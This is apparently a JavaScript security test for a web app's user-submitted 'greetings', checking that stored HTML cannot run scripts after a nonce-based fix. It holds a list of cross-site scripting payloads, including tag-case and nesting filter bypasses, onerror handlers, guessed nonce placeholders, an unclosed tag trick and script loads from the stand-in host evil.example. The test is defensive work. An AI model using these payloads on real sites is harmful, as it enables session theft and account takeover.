const marks = [];
const code = () => { const mark = token(8); marks.push(mark); return `alert('${mark}')`; };
const rhea = await signIn('rhea@tanner.example');
const kofi = await victim('kofi@kestrel.example');
// The beginnings of the page's own scripts, for a greeting that begins like one of them.
const own = [...(await rhea.get('/')).body.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map((found) => found[1]);
const starts = [...new Set(own.flatMap((text) => [text.split('(')[0], text.slice(0, 40)]))].filter((start) => start !== '' && start.length < 80);
const asOwn = (start) => `<script>${start}${start.endsWith('(') ? ')' : ''};${code()}</script>`;
// What templates hold until a nonce takes its place.
const PLACES = ['{{nonce}}', '{{ nonce }}', '{{NONCE}}', '{nonce}', '{NONCE}', '{{{nonce}}}', '[nonce]', '[[nonce]]', '<%= nonce %>', '%nonce%', '%NONCE%', '%%NONCE%%', '__nonce__', '__NONCE__', '_NONCE_', '$nonce', '$NONCE', '${nonce}', '${NONCE}', '@nonce', '@nonce@', '@NONCE@', '#nonce#', '#{nonce}', ':nonce', 'NONCE', 'nonce', 'nonce-placeholder', 'NONCE_PLACEHOLDER', '__CSP_NONCE__', 'CSP_NONCE', 'csp-nonce', '{{cspNonce}}', '{{csp_nonce}}', '{{csp-nonce}}', '{{res.locals.nonce}}', '${res.locals.nonce}', 'undefined', 'null', 'true', ''];
const ways = () => [
  `<SCRIPT>${code()}</SCRIPT>`,
  `<script\n>${code()}</script>`,
  '<script src="https://evil.example/x.js"></script>',
  `<svg><script>${code()}</script></svg>`,
  `<script/x>${code()}</script>`,
  `<img src=x onerror="${code()}">`,
  `<script nonce>${code()}</script>`,
  `<scr<script>ipt>${code()}</script>`,
  `<scr<script></script>ipt>${code()}</script>`,
  `<script>\n  ${code()}\n</script>`,
  `<script>${code()}</script >`,
  `<script>${code()}</script\n>`,
  `<script>${code()}</script/x>`,
  `<script type="module">${code()}</script>`,
  `<script data-x=">">${code()}</script>`,
  `</div></li><script>${code()}</script>`,
  `</div></li></ul></main><script>${code()}</script>`,
  ...starts.map(asOwn),
];
await kofi.host({ 'https://evil.example/x.js': code(), 'https://evil.example/y.js': code() });
// A listener who joined today and one who is not signed in open the page as well.
const fresh = `${token(8)}@new.example`;
sql("INSERT INTO people SELECT ?, 'Ola Berg', ?, password, role FROM people WHERE id = 'rhea'", `new-${token(6)}`, fresh);
const { password } = accounts.find(({ user }) => user === 'rhea@tanner.example');
const ola = await victim(fresh, password);
const stranger = await victim();
async function open() {
  await kofi.visit('/studio');
  await pick([kofi, ola]).visit('/');
  await stranger.visit('/');
}
const all = shuffle(ways());
for (let from = 0; from < all.length; from += 10) {
  for (const html of all.slice(from, from + 10)) await rhea.post('/greetings', { html });
  await open();
}
// The same was sent in before the fix, and is in the database.
const stored = shuffle(ways());
for (let from = 0; from < stored.length; from += 19) {
  for (const html of stored.slice(from, from + 19)) sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", html);
  await open();
}
sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", PLACES.map((nonce) => `<script nonce="${nonce}">${code()}</script>`).join(''));
await open();
// A tag without an end takes up the next one of the page.
await rhea.post('/greetings', { html: '<p>Hello</p><script src="https://evil.example/y.js" ' });
await open();
expect(marks.filter((mark) => ran(mark)), 'a script in a greeting ran').toBeEmpty();
